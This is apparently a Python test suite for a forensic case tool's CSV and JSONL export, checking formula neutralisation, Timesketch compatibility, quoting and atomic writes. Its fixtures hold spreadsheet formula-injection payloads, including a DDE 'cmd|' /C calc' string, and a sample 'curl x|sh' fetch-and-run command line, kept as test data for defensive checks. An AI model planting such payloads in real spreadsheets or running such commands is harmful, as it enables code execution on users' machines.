"""Exports: Timesketch-ready CSV with formulas neutralised, JSONL with full rows, atomic."""

from __future__ import annotations

import csv
import errno
import json
from datetime import datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from casefile import CSV_COLUMNS, CaseError, open_case
from casefile import export as export_module

HUNT = "1d7cae97-2dea-4f01-b04c-85fa4bd991d0"
EVIL = [
    {"cc": 1, "file.name": '=HYPERLINK("http://x.example","click")', "process.executable": "/usr/bin/dpkg"},
    {"cc": 1, "file.name": "+cmd|' /C calc'!A0", "process.executable": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"cc": 2, "file.name": "-2+3", "process.executable": "\tTAB"},
    {"cc": 1, "file.name": "\rCR", "process.executable": "/bin/sh"},
    {"cc": 1, "file.name": 'line1\nline2, "quoted"', "process.executable": "/usr/bin/rpm"},
]


@pytest.fixture
def case(tmp_path):
    with open_case(tmp_path / "c.db") as opened:
        opened.tag_rows(EVIL, ["suspicious"], note="=1+1 from the analyst", source_kind="offline",
                        source="sample", hunt_uuid=HUNT, hunt_name="Persistence via DPKG/RPM Package",
                        mitre=["T1546.016"], query=0)
        opened.tag_rows([{"@timestamp": "2026-11-20T10:00:00+02:00", "host.name": "web1", "agent.id": "a1",
                          "process.command_line": "sh -c 'curl x|sh'"}],
                        ["malicious", "needs-review"], source_kind="elastic", source="https://es:9200", query=2)
        yield opened


def read_csv(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_columns_are_the_documented_ones_in_order(case, tmp_path):
    out = tmp_path / "f.csv"
    assert case.export(out) == 6
    header = out.read_bytes().split(b"\r\n", 1)[0].decode()
    assert header.split(",") == list(CSV_COLUMNS)
    assert list(CSV_COLUMNS[:9]) == ["finding_id", "tags", "notes", "hunt", "mitre", "host.name", "agent.id",
                                     "first_seen", "last_seen"]
    assert list(CSV_COLUMNS[-3:]) == ["message", "datetime", "timestamp_desc"]


def test_formula_cells_are_neutralised_and_raw_keeps_them(case, tmp_path):
    case.export(tmp_path / "safe.csv")
    case.export(tmp_path / "raw.csv", raw=True)
    safe = read_csv(tmp_path / "safe.csv")
    raw = read_csv(tmp_path / "raw.csv")
    for row in safe:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    names = {r["file.name"] for r in safe}
    assert "'" + EVIL[0]["file.name"] in names and "'-2+3" in names and "'\rCR" in names
    assert {r["process.executable"] for r in safe} >= {"'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTAB"}
    assert {r["file.name"] for r in raw} >= {e["file.name"] for e in EVIL}
    assert all(r["notes"].endswith(": =1+1 from the analyst") for r in raw if r["notes"])


def test_rfc4180_quoting_round_trips_newlines_quotes_and_commas(case, tmp_path):
    case.export(tmp_path / "f.csv")
    data = (tmp_path / "f.csv").read_bytes()
    data.decode("utf-8")  # UTF-8, and
    assert not data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    names = {r["file.name"] for r in read_csv(tmp_path / "f.csv")}
    assert 'line1\nline2, "quoted"' in names


def test_timesketch_can_import_it(case, tmp_path):
    """What Timesketch's read_and_validate_csv needs: message, datetime, timestamp_desc, a
    parseable datetime on every row (rows without one are dropped)."""
    case.export(tmp_path / "f.csv")
    rows = read_csv(tmp_path / "f.csv")
    assert rows and {"message", "datetime", "timestamp_desc"} <= set(rows[0])
    for row in rows:
        assert datetime.fromisoformat(row["datetime"].replace("Z", "+00:00")).utcoffset().total_seconds() == 0
        assert row["message"] and row["timestamp_desc"]
    event = next(r for r in rows if r["host.name"] == "web1")
    assert (event["datetime"], event["timestamp_desc"]) == ("2026-11-20T08:00:00.000Z", "Event time")
    assert event["tags"] == "malicious|needs-review" and event["source"] == "https://es:9200"
    tagged_only = next(r for r in rows if r["file.name"] == "/bin/sh" or r["file.name"] == "'\rCR")
    assert tagged_only["timestamp_desc"] == "Tagged in case" and tagged_only["datetime"] == tagged_only["tagged"]
    # One sentence a timeline reader understands: tags, what, where, from which query.
    assert event["message"] == "malicious, needs-review command line: sh -c 'curl x|sh' on web1 (huntbench, Q3)"
    assert json.loads(event["tag"]) == ["malicious", "needs-review"]


def test_tag_filter_and_untagged_findings(case, tmp_path):
    assert case.export(tmp_path / "m.csv", tags=["Malicious"]) == 1
    only = read_csv(tmp_path / "m.csv")[0]
    case.untag(only["finding_id"], "malicious")
    case.untag(only["finding_id"], "needs-review")
    assert case.export(tmp_path / "all.csv") == 5  # a finding with no tag left is not exported


def test_jsonl_carries_the_full_rows(case, tmp_path):
    assert case.export(tmp_path / "f.jsonl", fmt="jsonl") == 6
    lines = [json.loads(line) for line in (tmp_path / "f.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(json.dumps(x["row"], sort_keys=True) for x in lines if x["query"] == "0") == \
        sorted(json.dumps(e, sort_keys=True) for e in EVIL)
    assert all({"message", "datetime", "timestamp_desc"} <= set(x) for x in lines)
    assert {tuple(x["tags"]) for x in lines} == {("suspicious",), ("malicious", "needs-review")}


def test_full_disk_leaves_no_partial_file_and_keeps_the_old_export(case, tmp_path, monkeypatch):
    out = tmp_path / "f.csv"
    out.write_text("previous export\n")
    real = export_module._write_csv

    def write_then_fail(conn, handle, tags, raw):
        real(conn, handle, tags, raw)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export_module, "_write_csv", write_then_fail)
    with pytest.raises(CaseError, match="no space left on device; nothing was written"):
        case.export(out)
    assert out.read_text() == "previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.db", "c.db-shm", "c.db-wal", "f.csv"]


def test_export_never_overwrites_the_case_file_itself(case, tmp_path):
    before = case.path.read_bytes()
    with pytest.raises(CaseError, match="that is the case file itself"):
        case.export(case.path)
    assert case.path.read_bytes() == before and len(case.findings()) == 6


def test_export_to_a_missing_folder_or_a_folder_path_is_a_clear_error(case, tmp_path):
    with pytest.raises(CaseError, match="does not exist"):
        case.export(tmp_path / "nope" / "f.csv")
    with pytest.raises(CaseError, match="it is a folder"):
        case.export(tmp_path)


def test_nul_and_undecodable_bytes_reach_csv_as_replacement_characters(tmp_path):
    with open_case(tmp_path / "c.db") as opened:
        opened.tag_rows([{"file.name": "a\x00b\udcffc"}], ["benign"], source_kind="offline", source="x")
        opened.export(tmp_path / "f.csv")
        opened.export(tmp_path / "f.jsonl", fmt="jsonl")
    assert read_csv(tmp_path / "f.csv")[0]["file.name"] == "a\ufffdb\ufffdc"
    line = json.loads((tmp_path / "f.jsonl").read_text(encoding="utf-8"))
    assert line["row"]["file.name"] == "a\x00b\udcffc"


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5, unique=True))
def test_any_text_survives_the_csv_round_trip_neutralised_or_raw(tmp_path_factory, names):
    folder = tmp_path_factory.mktemp("prop")
    with open_case(folder / "c.db") as opened:
        opened.tag_rows([{"file.name": n} for n in names], ["suspicious"], source_kind="offline", source="x")
        opened.export(folder / "safe.csv")
        opened.export(folder / "raw.csv", raw=True)
    stored = ["".join("\ufffd" if ch == "\x00" or 0xD800 <= ord(ch) <= 0xDFFF else ch for ch in n) for n in names]
    raw = [r["file.name"] for r in read_csv(folder / "raw.csv")]
    safe = [r["file.name"] for r in read_csv(folder / "safe.csv")]
    assert sorted(raw) == sorted(stored)
    assert sorted(safe) == sorted(("'" + s) if s.startswith(("=", "+", "-", "@", "\t", "\r")) else s for s in stored)
